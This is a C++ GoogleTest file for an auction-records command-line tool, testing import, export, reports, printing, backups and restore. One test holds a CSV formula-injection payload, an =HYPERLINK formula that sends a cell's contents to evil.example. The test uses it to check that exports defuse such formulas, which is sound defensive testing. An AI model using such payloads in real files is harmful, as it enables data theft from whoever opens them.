#include "platform/instancelock.h"
#include "records/recordstore.h"
#include "records/storebackups.h"
#include "support/storebackend.h"
#include "support/testsupport.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QProcess>
#include <QRegularExpression>
#include <gtest/gtest.h>

namespace {

struct CliRun
{
    int exitCode = -1;
    QString out;
    QString err;
};

// Runs lotwise-cli on `home` as its application folder.
CliRun cli(const QString &home, const QStringList &args)
{
    QProcess p;
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert("LOTWISE_HOME", home);
    env.insert("LC_ALL", "en_US.UTF-8");
    p.setProcessEnvironment(env);
    p.start(QStringLiteral(LOTWISE_CLI), args);
    CliRun r;
    // A hang guard only: a stuck child fails the test instead of blocking the suite.
    if (!p.waitForFinished(120000)) {
        p.kill();
        p.waitForFinished();
        ADD_FAILURE() << "lotwise-cli " << args.join(' ').toStdString() << " did not finish";
        return r;
    }
    r.exitCode = p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -1;
    r.out = QString::fromUtf8(p.readAllStandardOutput());
    r.err = QString::fromUtf8(p.readAllStandardError());
    return r;
}

// Three unpaid, invoiced sales; with today 3/20/2024 ann is 13 days old, bob 14, cy 13 but
// already sent the 7-day reminder. The header is in no particular order.
const QByteArray kSales =
    "User Name,CK Remainder 10,Auction Name,Close Date,Address,Email Address,"
    "CK Invoice Sent,CK Payment Made,CK Item Sent,CK Criedt Filed\r\n"
    "ann,0,\"Lamp, brass\",3/7/2024,\"12 Elm St\r\nSpringfield\",ann@example.com,1,0,0,0\r\n"
    "bob,0,\"The \"\"Big\"\" Clock\",3/6/2024,Box 4,bob@example.com,1,0,0,0\r\n"
    "cy,1,Vase,3/7/2024,,cy@example.com,1,0,0,0\r\n";

// Each test on a folder and settings of its own.
class Cli : public ::testing::Test
{
protected:
    void SetUp() override { qputenv("XDG_CONFIG_HOME", folder.file("config").toUtf8()); }
    void TearDown() override { qunsetenv("XDG_CONFIG_HOME"); }
    CliRun run(const QStringList &args) { return cli(folder.path(), args); }
    // Imports `csv` as a file of that name; returns how the import ended.
    int import(const QByteArray &csv, const QString &name = "sales.csv")
    {
        EXPECT_TRUE(TestSupport::writeBytes(folder.file(name), csv));
        return run({"import", folder.file(name)}).exitCode;
    }
    void importSales() { ASSERT_EQ(import(kSales), 0); }
    // The records in the folder now.
    int stored() const { return int(RecordStore::checkFile(folder.dbPath()).records); }

    TestSupport::TempFolder folder;
};

} // namespace

TEST_F(Cli, ImportedRecordsExportAndImportElsewhereByteForByte)
{
    importSales();
    const CliRun r = run({"export", folder.file("out.csv")});
    ASSERT_EQ(r.exitCode, 0) << r.err.toStdString();
    const QByteArray first = TestSupport::readBytes(folder.file("out.csv"));
    ASSERT_TRUE(first.contains("12 Elm St")) << first.constData();

    TestSupport::TempFolder other;
    ASSERT_EQ(cli(other.path(), {"import", folder.file("out.csv")}).exitCode, 0);
    ASSERT_EQ(cli(other.path(), {"export", other.file("again.csv")}).exitCode, 0);
    EXPECT_EQ(TestSupport::readBytes(other.file("again.csv")), first);
}

TEST_F(Cli, AnExportOfBuyersTextThatWouldRunAsAFormulaReadsBackAsTheSameRecords)
{
    const QByteArray sales =
        "User Name,Auction Name,Auction Total,Close Date\r\n"
        "\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",@SUM(A1),-4.5,3/7/2024\r\n"
        "'quoted,+lamp,12,3/8/2024\r\n";
    ASSERT_EQ(import(sales), 0);
    ASSERT_EQ(run({"export", folder.file("out.csv")}).exitCode, 0);
    const QByteArray exported = TestSupport::readBytes(folder.file("out.csv"));
    // In stored order: Close Date, Auction Name, Auction URL, Auction Total, User Name.
    EXPECT_TRUE(exported.contains("\r\n3/7/2024,'@SUM(A1),,-4.5,\"'=HYPERLINK(\"\"http:"))
        << exported.constData();
    EXPECT_TRUE(exported.contains("\r\n3/8/2024,'+lamp,,12,'quoted,")) << exported.constData();

    TestSupport::TempFolder other;
    ASSERT_EQ(cli(other.path(), {"import", folder.file("out.csv")}).exitCode, 0);
    const auto names = [](const QString &db) {
        QStringList n;
        for (const FieldValues &v : TestSupport::storedValues(db))
            n << v[Fields::index(Field::UserName)] + "|" + v[Fields::index(Field::AuctionName)];
        return n;
    };
    EXPECT_EQ(names(other.dbPath()),
              QStringList({"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")|@SUM(A1)",
                           "'quoted|+lamp"}));
    ASSERT_EQ(cli(other.path(), {"export", other.file("again.csv")}).exitCode, 0);
    EXPECT_EQ(TestSupport::readBytes(other.file("again.csv")), exported);
}

TEST_F(Cli, MalformedFileNamesItsLineAndImportsNothing)
{
    importSales();
    // The quoted address spans lines 2 and 3, so the bad row is on line 4.
    for (const auto &[csv, line] :
         {std::pair<QByteArray, const char *>{
              "User Name,Address\r\nann,\"1 Elm\r\nTown\"\r\nbob\r\n", "line 4"},
          {"User Name,Colour\r\nann,red\r\n", "line 1"}}) {
        TestSupport::writeBytes(folder.file("bad.csv"), csv);
        const CliRun r = run({"import", folder.file("bad.csv")});
        EXPECT_NE(r.exitCode, 0) << line;
        EXPECT_TRUE(r.err.contains(line)) << r.err.toStdString();
    }
    EXPECT_EQ(stored(), 3);
}

TEST_F(Cli, ImportOrdersPrintsTheFormatAndWhatWasDoneAndADryRunWritesNothing)
{
    importSales();
    const QByteArray orders =
        ",,,,,,,\r\n"
        "Order Number,Buyer Username,Buyer Email,Item Number,Item Title,Sold For,Sale Date,"
        "Paid On Date\r\n"
        "7-1,dan,dan@members.ebay.com,901,Clock,$5.00,Mar-10-24,Mar-11-24\r\n"
        "7-2,eve,eve@members.ebay.com,902,Vase,$6.00,Mar-10-24,\r\n"
        "2,record(s) downloaded,,\r\n";
    TestSupport::writeBytes(folder.file("orders.csv"), orders);
    CliRun r = run({"import-orders", folder.file("orders.csv"), "--dry-run"});
    EXPECT_EQ(r.exitCode, 0) << r.err.toStdString();
    EXPECT_EQ(r.out, "Format: eBay Seller Hub Orders report\nAdded 2, updated 0, unchanged 0.\n"
                     "Dry run: nothing was written.\n");
    EXPECT_EQ(stored(), 3);

    r = run({"import-orders", folder.file("orders.csv")});
    EXPECT_EQ(r.exitCode, 0) << r.err.toStdString();
    EXPECT_EQ(r.out, "Format: eBay Seller Hub Orders report\nAdded 2, updated 0, unchanged 0.\n");
    EXPECT_EQ(stored(), 5);

    // Refused: exit 1, the file and line on standard error, nothing written.
    QByteArray bad = orders;
    bad.replace("Mar-10-24,Mar-11-24", "Mar-10-24,Mar-41-24");
    TestSupport::writeBytes(folder.file("bad.csv"), bad);
    r = run({"import-orders", folder.file("bad.csv")});
    EXPECT_EQ(r.exitCode, 1);
    EXPECT_TRUE(r.err.contains(folder.file("bad.csv") +
                               ", line 3: \"Mar-41-24\" in Paid On Date is not a date"))
        << r.err.toStdString();
    EXPECT_EQ(run({"import-orders", folder.file("none.csv")}).exitCode, 1);
    EXPECT_EQ(stored(), 5);
}

TEST_F(Cli, ImportOrdersWarnsOfAnOrderWhoseRecordsDoNotAddUpToTheFilesTotal)
{
    const QByteArray orders =
        "Order Number,Buyer Username,Item Number,Item Title,Sold For,Delivery Charge,Total Price,"
        "Sale Date\r\n"
        "7-1,dan,901,Clock,$5.00,$4.00,$9.00,Mar-10-24\r\n"
        "7-2,eve,902,Vase,$6.00,,$6.00,Mar-10-24\r\n";
    TestSupport::writeBytes(folder.file("orders.csv"), orders);
    const CliRun r = run({"import-orders", folder.file("orders.csv")});
    EXPECT_EQ(r.exitCode, 0) << r.err.toStdString();
    EXPECT_EQ(r.err, "lotwise-cli: warning: " + folder.file("orders.csv") +
                         ", line 2: order 7-1 totals 9.00 in the file, but its records come to "
                         "5.00.\n");
    EXPECT_EQ(r.out, "Format: eBay Seller Hub Orders report\nAdded 2, updated 0, unchanged 0.\n");
    EXPECT_EQ(stored(), 2);
}

TEST_F(Cli, QueuePrintsTheRowsCaptionAndTitleForTheGivenDay)
{
    importSales();
    CliRun r = run({"queue", "AR1", "--today", "2024-03-20"});
    ASSERT_EQ(r.exitCode, 0) << r.err.toStdString();
    EXPECT_EQ(r.out, "ann\tann@example.com\tLamp, brass\t3/7/2024\t13 Days\n"
                     "You Have 1 Auction Reminders to Send..\n"
                     "Lotwise - Working with 7 Day Reminders..\n");
    r = run({"queue", "IS", "--today", "2024-03-20"});
    EXPECT_EQ(r.out, "You Have 0 Invoices to Send..\nLotwise - Working with Invoices to Send..\n");
}

TEST_F(Cli, HelpAndVersionOnStandardOutputAndWrongUsageOnStandardErrorWithStatusTwo)
{
    for (const QStringList &args :
         {QStringList{"--help"}, QStringList{"-h"}, QStringList{"help"}}) {
        const CliRun r = run(args);
        EXPECT_EQ(r.exitCode, 0) << args.join(' ').toStdString();
        EXPECT_TRUE(r.out.startsWith("Usage: lotwise-cli")) << r.out.toStdString();
        // Every command is listed.
        for (const char *command : {"import ", "import-orders ", "export ", "queue ", "copy-store ",
                                    "backup", "check", "restore ", "report ", "print "})
            EXPECT_TRUE(r.out.contains(QString("lotwise-cli ") + command)) << command;
        EXPECT_TRUE(r.err.isEmpty());
    }
    CliRun r = run({"--version"});
    EXPECT_EQ(r.exitCode, 0);
    EXPECT_EQ(r.out, "lotwise-cli 3.0.0\n");
    // One command described, asked either way.
    for (const QStringList &args : {QStringList{"help", "queue"}, QStringList{"queue", "--help"}}) {
        r = run(args);
        EXPECT_EQ(r.exitCode, 0) << args.join(' ').toStdString();
        EXPECT_TRUE(r.out.startsWith("Usage: lotwise-cli queue KEY [--today YYYY-MM-DD]"))
            << r.out.toStdString();
        EXPECT_FALSE(r.out.contains("import-orders"));
    }
    // A wrong command, option or argument, a key that names no list: the reason on standard
    // error, nothing on standard output, and the folder untouched.
    for (const char *line :
         {"", "frob", "--frob", "help frob", "export a.csv --frob", "export", "backup x",
          "import-orders", "import-orders a.csv --dry", "import-orders a.csv --dry-run x",
          "queue XX", "queue AR", "queue FVF5", "report", "report --year 24x",
          "report --year 2024 --format pdf", "report --format csv", "print labels --list S",
          "print invoices --list AR"}) {
        const QStringList args = QString(line).split(' ', Qt::SkipEmptyParts);
        r = run(args);
        EXPECT_EQ(r.exitCode, 2) << args.join(' ').toStdString();
        EXPECT_TRUE(r.out.isEmpty()) << args.join(' ').toStdString();
        EXPECT_FALSE(r.err.isEmpty()) << args.join(' ').toStdString();
    }
    EXPECT_FALSE(QFileInfo::exists(folder.dbPath()));
}

TEST_F(Cli, YearEndReportAsCsvAndTextWithExactSums)
{
    ASSERT_EQ(import("User Name,Close Date,Auction Total,CK Payment Made\r\n"
                     "ann,1/1/2024,0.10,1\r\n"
                     "bob,1/31/2024,0.20,0\r\n"
                     "cy,12/31/2024,$19.99,1\r\n"
                     "di,12/31/2023,5,1\r\n"
                     "ed,1/1/2025,5,1\r\n"
                     "fay,6/6/2024,five,0\r\n"
                     "gus,,1,0\r\n"),
              0);
    CliRun r = run({"report", "--year", "2024", "--format", "csv"});
    ASSERT_EQ(r.exitCode, 0) << r.err.toStdString();
    const QStringList lines = r.out.split("\r\n");
    ASSERT_EQ(lines.size(), 15) << r.out.toStdString();
    EXPECT_EQ(lines[0], "Month,Sales,Total,Paid,Unpaid");
    EXPECT_EQ(lines[1], "2024-01,2,0.30,0.10,1");
    EXPECT_EQ(lines[13], "Total,3,20.29,20.09,1");
    EXPECT_EQ(r.err, "2 records left out: no date or no amount\n");

    r = run({"report", "--year", "2024"});
    ASSERT_EQ(r.exitCode, 0);
    EXPECT_TRUE(r.out.startsWith("Year-end report 2024\n"));
    EXPECT_TRUE(r.out.contains(QRegularExpression("\nTotal +3 +20\\.29 +20\\.09 +1\n")));
    EXPECT_TRUE(r.out.contains("2 records left out: no date or no amount"));
}

TEST_F(Cli, PrintWritesThePdfOfAListOrSaysItIsEmpty)
{
    importSales();
    const QString pdf = folder.file("reminders.pdf");
    CliRun r = run({"print", "invoices", "--list", "AR7", "--out", pdf, "--today", "2024-03-20"});
    ASSERT_EQ(r.exitCode, 0) << r.err.toStdString();
    EXPECT_TRUE(r.out.contains("Printed 3 invoices (3 items)")) << r.out.toStdString();
    EXPECT_TRUE(TestSupport::readBytes(pdf).startsWith("%PDF"));

    r = run({"print", "packing-slips", "--list", "S", "--out", pdf});
    EXPECT_EQ(r.exitCode, 0);
    EXPECT_EQ(r.out, "The list S is empty; nothing was printed.\n");
    r = run({"print", "invoices", "--list", "AR7", "--out", folder.file("no/such/x.pdf")});
    EXPECT_EQ(r.exitCode, 1);
    EXPECT_TRUE(r.err.contains("x.pdf"));
}

namespace {

CliRun copyStore(const QString &home, const QStringList &more)
{
    qputenv("PGPASSWORD", "lotwisetest");
    qputenv("XDG_CONFIG_HOME", (home + "/config").toUtf8());
    const CliRun r = cli(home, QStringList{"copy-store"} + more +
                                   QStringList{"--host", "127.0.0.1", "--port", "15432",
                                               "--database", "lotwise_copy", "--user", "lotwise"});
    qunsetenv("PGPASSWORD");
    qunsetenv("XDG_CONFIG_HOME");
    return r;
}

} // namespace

TEST(CliCopyStore, MovesEveryRecordToTheServerAndBackCheckingTheCounts)
{
    REQUIRE_PG();
    TestSupport::TempFolder seller, helper;
    {
        RecordStore store;
        store.open(seller.dbPath());
        TestSupport::addRecord(store,
                               {{Field::UserName, "ann"}, {Field::Address, "1 Main St\r\nX"}});
        TestSupport::addRecord(
            store, {{Field::UserName, QString::fromUtf8("zoë")}, {Field::CriedtFiled, "1"}});
        TestSupport::addRecord(store, {{Field::UserName, "cy"}});
    }
    CliRun r = copyStore(seller.path(), {"to-server", "--replace"});
    ASSERT_EQ(r.exitCode, 0) << r.err.toStdString();
    EXPECT_TRUE(r.out.contains("Copied 3 records")) << r.out.toStdString();

    // A full destination is never added to by mistake.
    r = copyStore(seller.path(), {"to-server"});
    EXPECT_EQ(r.exitCode, 1);
    EXPECT_TRUE(r.err.contains("already holds 3 records")) << r.err.toStdString();

    r = copyStore(helper.path(), {"to-file"});
    ASSERT_EQ(r.exitCode, 0) << r.err.toStdString();
    RecordStore copy;
    copy.open(helper.dbPath());
    EXPECT_EQ(copy.recordCount(), 3);
    copy.close();

    r = copyStore(seller.path(), {"to-sideways"});
    EXPECT_EQ(r.exitCode, 2);
}

TEST_F(Cli, BackupPrintsItsPathAndCheckTellsASoundStoreFromADamagedOne)
{
    TestSupport::makeStore(folder.dbPath(), 200);
    const CliRun b = run({"backup"});
    ASSERT_EQ(b.exitCode, 0) << b.err.toStdString();
    const QString path = b.out.trimmed();
    EXPECT_TRUE(QFileInfo(path).fileName().startsWith("Auctions-")) << path.toStdString();
    EXPECT_EQ(QFileInfo(path).absolutePath(), QDir(folder.file("Backups")).absolutePath());
    EXPECT_EQ(RecordStore::checkFile(path).records, 200);

    const CliRun sound = run({"check"});
    EXPECT_EQ(sound.exitCode, 0) << sound.err.toStdString();
    EXPECT_TRUE(sound.out.contains("200 records")) << sound.out.toStdString();

    TestSupport::damageStore(folder.dbPath(), TestSupport::Damage::ZeroedPage);
    const CliRun damaged = run({"check"});
    EXPECT_EQ(damaged.exitCode, 1);
    EXPECT_TRUE(damaged.err.contains(folder.dbPath() +
                                     "\" cannot be read: database disk image is malformed"))
        << damaged.err.toStdString();
    // A damaged store is never copied over a sound backup.
    EXPECT_EQ(run({"backup"}).exitCode, 1);
    EXPECT_EQ(StoreBackups::list(folder.file("Backups")).size(), 1u);
}

TEST_F(Cli, RestoreTakesTheNewestSoundBackupOrTheOneNamedAndKeepsTheFileAside)
{
    TestSupport::makeStore(folder.dbPath(), 5);
    StoreBackups::write(folder.dbPath(), folder.file("Backups"),
                        QDateTime(QDate(2026, 1, 2), QTime(8, 0)));
    TestSupport::makeStore(folder.file("other.db"), 7);
    const QString newer = StoreBackups::write(folder.file("other.db"), folder.file("Backups"),
                                              QDateTime(QDate(2026, 1, 3), QTime(8, 0)));
    TestSupport::damageStore(folder.dbPath(), TestSupport::Damage::Truncated);
    const QByteArray damaged = TestSupport::readBytes(folder.dbPath());

    {
        InstanceLock held(folder.path());
        ASSERT_TRUE(held.tryLock());
        const CliRun refused = run({"restore"});
        EXPECT_NE(refused.exitCode, 0);
        EXPECT_TRUE(refused.err.contains("in use")) << refused.err.toStdString();
        EXPECT_EQ(TestSupport::readBytes(folder.dbPath()), damaged);
    }

    // The file kept aside is named by the day of the restore: the one it ended on, or, past
    // midnight, the one it began on.
    const QDate began = QDate::currentDate();
    const CliRun r = run({"restore"});
    ASSERT_EQ(r.exitCode, 0) << r.err.toStdString();
    EXPECT_EQ(RecordStore::checkFile(folder.dbPath()).records, 7);
    const auto asideOf = [&](QDate day) {
        return folder.dbPath() + ".before-restore-" + day.toString(Qt::ISODate);
    };
    const QString aside = QFileInfo::exists(asideOf(began)) ? asideOf(began) : asideOf(QDate::currentDate());
    EXPECT_EQ(TestSupport::readBytes(aside), damaged);
    EXPECT_TRUE(r.out.contains(aside)) << r.out.toStdString();

    EXPECT_EQ(run({"restore", "Auctions-2026-01-02-0800.db"}).exitCode, 0);
    EXPECT_EQ(RecordStore::checkFile(folder.dbPath()).records, 5);
    QFile::remove(newer);
    const CliRun missing = run({"restore", "Auctions-2026-01-03-0800.db"});
    EXPECT_EQ(missing.exitCode, 1);
    EXPECT_EQ(RecordStore::checkFile(folder.dbPath()).records, 5);
}
